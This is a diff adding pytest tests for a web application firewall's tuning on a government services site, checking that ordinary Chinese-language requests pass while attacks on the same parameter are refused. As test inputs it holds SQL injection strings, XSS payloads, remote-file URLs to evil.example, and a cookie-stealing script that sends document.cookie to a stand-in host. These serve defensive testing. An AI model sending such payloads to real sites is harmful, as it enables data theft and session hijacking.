@@ -136,6 +136,87 @@ def test_tuning_keeps_the_replaced_rules_alive(tier: Tier) -> None:
         assert rule in audit.get(i, []), f"{rule} did not fire on {path}: {audit.get(i)}"
 
 
+def _q(text: str) -> str:
+    return urllib.parse.quote(text, safe="")
+
+
+LETTER = ("请问：1. 申请公租房需要哪些材料？2. 审核需要多长时间？她说'明天再来'，可是第二天还是没人处理。"
+          "联系电话：0531-85756838，手机：13391234567，邮箱：citizen@163.com。根据《物业管理条例》第七条"
+          "（收费标准调整）……办事页面链接：http://zwfw.example.gov.cn/jnzwdt/pages/default/index?areacode=370100"
+          "&type=1 ，请工作人员查看（谢谢！）")
+REFERRER = "https://www.baidu.com/s?wd=营商环境+优化+措施&rsv_spt=1&rsv_iqid=0xdb6a46b1c603&ie=utf-8&src=srp"
+# SQL payloads as constants (a literal concatenated into a path reads as query building to the linter).
+SQLI_UNION = "1' union select password from users--"
+SQLI_MIXED = ("1' and (select 1 from(select count(*),concat((select '中文'),floor(rand(0)*2))x "
+              "from information_schema.tables group by x)a)--")
+SDK_COOKIE = '{"distinct_id":"18c2a","props":{"$url":"https://www.example.gov.cn/art/2024/1/2/art_1_2.html"}}'
+
+# Issue 13 session 4, one row per tuning change (docs/waf.md): (what, the ordinary request that made
+# the change [rule that may no longer fire on it], and on the SAME path and parameter an attack the
+# rule must still see [rule that must fire] and the tier must still refuse (403)). All on strict (PL2).
+TUNING_CASES = [
+    ("unicode map: “” ‘’ are not ASCII quotes",
+     "/search?q=" + _q("“双减”政策落实情况"), "942110",
+     "/search?q=" + _q('"双减"政策落实情况'), "942110",
+     "/search?q=" + _q("＂ or 1=1-- ")),  # fullwidth ＂ keeps its best fit
+    ("10150/10450: a plain URL in a parameter",
+     "/page?ref=" + _q(REFERRER.replace("www.baidu.com", "www.gd.gov.cn")), "10450",
+     "/page?ref=" + _q("0x61646d696e"), "10450",
+     "/page?ref=" + _q('https://x.example/"><img src=x onerror=alert(1)>')),
+    ("10150: src= as a query name of a plain URL",
+     "/page?ref=" + _q(REFERRER.replace("www.baidu.com", "www.gd.gov.cn")), "10150",
+     "/page?ref=" + _q("https://x.example/a b style=x"), "10150",
+     "/page?ref=" + _q("https://x.example/?id=" + SQLI_UNION)),
+    ("10340: a quote then a Chinese character",
+     "/hudong/submit?content=" + _q(LETTER), "10340",
+     "/hudong/submit?content=" + _q("x'-alert.call(null,1)=1"), "10340",
+     "/hudong/submit?content=" + _q("';document.location='http://x.example/?c='+document.cookie;//")),
+    ("10040: Matomo's referrer leaves the off-domain rule on the tracker only",
+     "/matomo.php?idsite=7&rec=1&url=https%3A%2F%2Fwww.example.gov.cn%2Fart%2F1.html&urlref="
+     + _q("https://www.sogou.com/web?query=%E5%9F%8E%E4%B9%A1"), "10130",
+     "/matomo.php?idsite=7&rec=1&url=https%3A%2F%2Fevil.example%2Fshell.txt&urlref="
+     + _q("https://www.sogou.com/web?query=x"), "10130",
+     "/matomo.php?idsite=7&rec=1&urlref=" + _q('https://www.sogou.com/"><script>alert(1)</script>')),
+    ("10430: 12 special characters in one ASCII run",
+     "/hudong/submit?content=" + _q(LETTER), "10430",
+     "/hudong/submit?content=" + _q(SQLI_MIXED), "10430",
+     "/hudong/submit?content=" + _q(SQLI_MIXED)),
+]
+
+
+@pytest.mark.parametrize("case", TUNING_CASES, ids=[c[0].split(":")[0] for c in TUNING_CASES])
+def test_tuning_change_passes_its_case_and_still_blocks_the_same_parameter(tier: Tier, case: tuple) -> None:
+    _, ordinary, quiet_rule, probe, loud_rule, attack = case
+    reqs, ids = _tagged(as_citizens([Req("GET", p, dict(attacks.BASE)) for p in (ordinary, probe, attack)]))
+    statuses = [send(tier.port, profile_host("strict"), q, source=GATEWAY).status for q in reqs]
+    audit = _audit_by_test_id(tier, ids[1:])
+    assert statuses[0] == 200 and quiet_rule not in audit.get(ids[0], []), (ordinary, audit.get(ids[0]))
+    assert loud_rule in audit.get(ids[1], []), f"{loud_rule} no longer fires on {probe}: {audit.get(ids[1])}"
+    assert statuses[2] == 403, f"attack served on the same parameter: {attack}"
+
+
+@pytest.mark.parametrize("query", ["a=https%3A%2F%2Fevil.example%2Fx.txt&b=https%3A%2F%2Fwww.gov.cn%2F",
+                                   "b=https%3A%2F%2Fwww.gov.cn%2F&a=https%3A%2F%2Fevil.example%2Fx.txt",
+                                   "a=https%3A%2F%2Fwww.gov.cn%40evil.example%2Fx.txt",
+                                   "a=https%3A%2F%2Fevil.example%2F%3Fwww.gov.cn"])
+def test_off_domain_url_is_refused_next_to_a_government_url(tier: Tier, query: str) -> None:
+    """10130 (931130 with .gov.cn hosts exempt) in any parameter order, and with userinfo tricks."""
+    q = as_citizens([Req("GET", "/page?" + query, dict(attacks.BASE))])[0]
+    assert send(tier.port, profile_host("strict"), q, source=GATEWAY).status == 403
+    ok = as_citizens([Req("GET", "/page?a=https%3A%2F%2Fwww.gov.cn%2Fzhengce%2F&b=https%3A%2F%2FZWFW.GD.GOV.CN%2F",
+                          dict(attacks.BASE))])[0]
+    assert send(tier.port, profile_host("strict"), ok, source=GATEWAY).status == 200
+
+
+def test_json_cookie_of_any_name_passes_and_sqli_in_it_is_refused(tier: Tier) -> None:
+    """The SDK cookie left the SQLi rules by NAME until session 4; the JSON guard covers any name."""
+    ok = Req("GET", "/art/2024/1/2/art_1_2.html", {**attacks.BASE, "Cookie": f"sdk_state={_q(SDK_COOKIE)}"})
+    bad = Req("GET", "/art/2024/1/2/art_1_2.html",
+              {**attacks.BASE, "Cookie": "sdk_state=" + _q(SQLI_UNION)})
+    assert [send(tier.port, profile_host("strict"), q, source=GATEWAY).status
+            for q in as_citizens([ok, bad])] == [200, 403]
+
+
 # --- engine modes and exceptions ------------------------------------------------------------------
 
 
